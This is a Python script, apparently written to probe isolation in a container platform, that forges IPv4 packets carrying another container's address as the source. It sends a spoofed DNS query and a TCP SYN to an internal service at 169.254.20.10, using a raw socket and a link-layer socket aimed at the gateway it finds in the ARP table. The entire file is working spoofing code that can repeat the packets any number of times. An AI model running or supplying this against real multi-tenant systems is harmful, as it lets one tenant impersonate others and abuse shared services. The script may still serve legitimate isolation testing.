"""Asks edge's DNS and API in another container's name, through the two kinds of socket that
let a program write its own IP header.

Usage: forge.py VICTIM COUNT, of which each kind of packet is sent COUNT times.
"""

import socket
import struct
import sys

SERVICE = "169.254.20.10"
GATEWAY = "169.254.1.1"


def checksum(data):
    words = struct.unpack(f"!{len(data) // 2}H", data)
    total = sum(words)
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(protocol, payload):
    def header(check):
        ends = socket.inet_aton(victim) + socket.inet_aton(SERVICE)
        length = 20 + len(payload)
        return struct.pack("!BBHHHBBH", 0x45, 0, length, 0, 0, 64, protocol, check) + ends

    return header(checksum(header(0))) + payload


def question():
    labels = b"".join(bytes([len(part)]) + part for part in (b"i6pn", b"modal", b"local"))
    query = struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 28, 1)
    return struct.pack("!4H", 4000, 53, 8 + len(query), 0) + query


def syn():
    def segment(check):
        return struct.pack("!HHIIBBHHH", 4000, 80, 1, 0, 0x50, 0x02, 64000, check, 0)

    pseudo = socket.inet_aton(victim) + socket.inet_aton(SERVICE)
    pseudo += struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20)
    return segment(checksum(pseudo + segment(0)))


def gateway():
    """The interface and the link address behind which the gateway is."""
    with open("/proc/net/arp") as table:
        for line in table:
            address, _, _, link, _, interface = line.split()[:6]
            if address == GATEWAY:
                return interface, bytes.fromhex(link.replace(":", ""))
    raise SystemExit(f"no neighbour {GATEWAY}")


victim, count = sys.argv[1], int(sys.argv[2])
packets = [ip(socket.IPPROTO_UDP, question()), ip(socket.IPPROTO_TCP, syn())]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
link = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
interface, address = gateway()
for _ in range(count):
    for packet in packets:
        raw.sendto(packet, (SERVICE, 0))
        link.sendto(packet, (interface, 0x0800, 0, 0, address))
print("sent")
